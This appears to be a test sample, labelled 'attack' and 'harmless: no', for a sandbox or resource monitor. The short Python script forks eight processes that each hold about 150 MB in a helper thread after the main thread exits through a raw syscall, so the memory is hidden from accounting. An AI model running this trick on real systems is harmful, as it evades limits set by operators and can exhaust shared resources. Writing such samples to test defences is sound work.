# attack: processes whose first thread has ended, so that they seem to hold nothing
# harmless: no
import ctypes
import os
import threading
import time

END = {"x86_64": 60, "aarch64": 93}[os.uname().machine]  # exit(2), of a thread


def fill():
    time.sleep(0.1)
    held = bytearray(150_000_000)
    for place in range(0, len(held), 4096):
        held[place] = 1
    time.sleep(60)


for _ in range(8):
    if os.fork() == 0:
        threading.Thread(target=fill).start()
        ctypes.CDLL(None).syscall(END, 0)
time.sleep(60)
